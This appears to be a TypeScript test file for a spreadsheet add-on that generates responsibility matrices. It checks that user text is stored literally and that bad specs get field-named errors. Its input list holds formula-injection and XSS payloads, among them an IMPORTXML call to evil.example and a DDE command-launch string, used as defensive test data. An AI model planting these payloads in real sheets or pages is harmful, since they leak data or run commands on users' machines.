/**
 * Formula safety and bad input: every user text (title, role, area, initiative) reaches the sheet as the
 * literal text typed, never as a formula, number or date; bad specs get a clear error naming the field,
 * never a TypeError.
 */
import { loadAddon } from "../helpers/addon";

const HEADER_ROW = 8;

/** Texts that Sheets would read as something else if written naively. */
const LITERAL_NAMES: string[] = [
  '=IMPORTXML("http://evil.example","//a")',
  "=1+1",
  "+1",
  "-1",
  "@SUM(A1)",
  "+CMD|' /C calc'!A0",
  "'quoted",
  "''twice",
  '=HYPERLINK("http://x","click")',
  "<img src=x onerror=alert(1)>",
  "<script>alert(1)</script>",
  "42",
  "3.14",
  "1e5",
  "TRUE",
  "false",
  "2024-01-31",
  "1/2/2024",
  "50%",
  "$100",
  "📈 Growth 🚀",
  "مدير العمليات",
  "עברית ‏RTL",
  "Ünïcödé ﬁ",
  "tab\tinside",
  "line\nbreak",
  "#REF!",
  "#N/A",
  "{=array}",
  "A",
  "R/A",
  "x".repeat(500),
];

describe("user text is written literally, never as a formula", () => {
  it.each(LITERAL_NAMES.map((name) => [name]))("initiative, area and role named %j", (name) => {
    const addon = loadAddon();
    // Role names stop at 60 characters (a header's width); initiatives and areas take all 500.
    const role = name === "A" || name === "R/A" ? `${name} role` : name.slice(0, 60);
    const result = addon.generate({
      template: "blank",
      title: "Hostile",
      roles: ["COO", role],
      initiatives: [{ name, area: name, assignments: { COO: "A/R" } }],
    });
    const sheet = addon.sheet(result.sheetName);
    const header = sheet.getRange(HEADER_ROW, 1, 2, 5);
    const values = header.getValues();
    const formulas = header.getFormulas();
    expect(values[0][3]).toBe(role.trim());
    expect(values[1][0]).toBe(name.trim());
    expect(values[1][1]).toBe(name.trim());
    expect(formulas[0].slice(0, 4)).toEqual(["", "", "", ""]);
    expect(formulas[1].slice(0, 4)).toEqual(["", "", "", ""]);
    const report = addon.analyze(result.sheetName);
    expect(report.findings.filter((f) => f.rule === "NO_ACCOUNTABLE")).toEqual([]);
  });
});

/** Specs that must be refused, each with the field the message must name. */
const BAD_SPECS: [string, unknown, RegExp][] = [
  ["empty role", { roles: ["COO", " "] }, /roles\[1\]/],
  ["duplicate roles by case and spaces", { roles: ["Chief of Staff", "chief  of staff"] }, /roles\[1\]/],
  ["a role that is a number", { roles: ["COO", 7] }, /roles\[1\]/],
  ["no roles", { roles: [] }, /roles/],
  ["roles not a list", { roles: "COO" }, /roles/],
  ["201 roles", { roles: Array.from({ length: 201 }, (_, i) => `Role ${i}`) }, /roles/],
  ["a 10,000-character role", { roles: ["x".repeat(10_000)] }, /roles\[0\]/],
  ["owner pair not among roles", { roles: ["CEO", "COO"], ownerPair: ["COO", "CFO"] }, /ownerPair\[1\]/],
  ["owner pair twice the same role", { roles: ["CEO", "COO"], ownerPair: ["COO", "COO"] }, /ownerPair/],
  ["unknown template", { template: "okr" }, /template/],
  ["an initiative without a name", { initiatives: [{ name: "" }] }, /initiatives\[0\]\.name/],
  ["an initiative name that is not text", { initiatives: [{ name: 12 }] }, /initiatives\[0\]\.name/],
  [
    "an assignment to a role that does not exist",
    { initiatives: [{ name: "X", assignments: { CFO: "A" } }] },
    /initiatives\[0\]\.assignments\.CFO/,
  ],
  [
    "an invalid code",
    { initiatives: [{ name: "X", assignments: { COO: "Z" } }] },
    /initiatives\[0\]\.assignments\.COO/,
  ],
  [
    "a 10,000-character initiative",
    { initiatives: [{ name: "y".repeat(10_000) }] },
    /initiatives\[0\]\.name/,
  ],
  [
    "20,001 initiatives",
    { initiatives: Array.from({ length: 20_001 }, (_, i) => ({ name: `I${i}` })) },
    /initiatives/,
  ],
  ["a 101-character title", { title: "t".repeat(101) }, /title/],
  ["a spec that is a string", "coo-cos", /spec|template|must/i],
  ["a spec that is a number", 42, /spec|must/i],
  ["initiatives not a list", { initiatives: { name: "X" } }, /initiatives/],
  [
    "assignments not an object",
    { initiatives: [{ name: "X", assignments: ["A"] }] },
    /initiatives\[0\]\.assignments/,
  ],
];

describe("bad specs get a clear error naming the field, and nothing is created", () => {
  it.each(BAD_SPECS)("%s", (_label, spec, field) => {
    const addon = loadAddon();
    const sheets = addon.emulator.spreadsheet.getSheets().length;
    let message = "";
    try {
      addon.bundle.generateMatrix(spec);
    } catch (error) {
      // The bundle runs in its own realm (node:vm), so its Error is not this realm's: compare by name.
      expect((error as Error).name).toBe("Error");
      message = (error as Error).message;
    }
    expect(message).toMatch(field);
    expect(addon.emulator.spreadsheet.getSheets().length).toBe(sheets);
  });

  it("accepts null and undefined as 'use the template'", () => {
    const addon = loadAddon();
    const { initiatives, roles } = addon.app.generateMatrix({ template: "coo-cos" });
    expect(addon.app.generateMatrix(undefined)).toMatchObject({ initiatives, roles });
    expect(addon.bundle.generateMatrix(null)).toMatchObject({ initiatives, roles });
  });
});
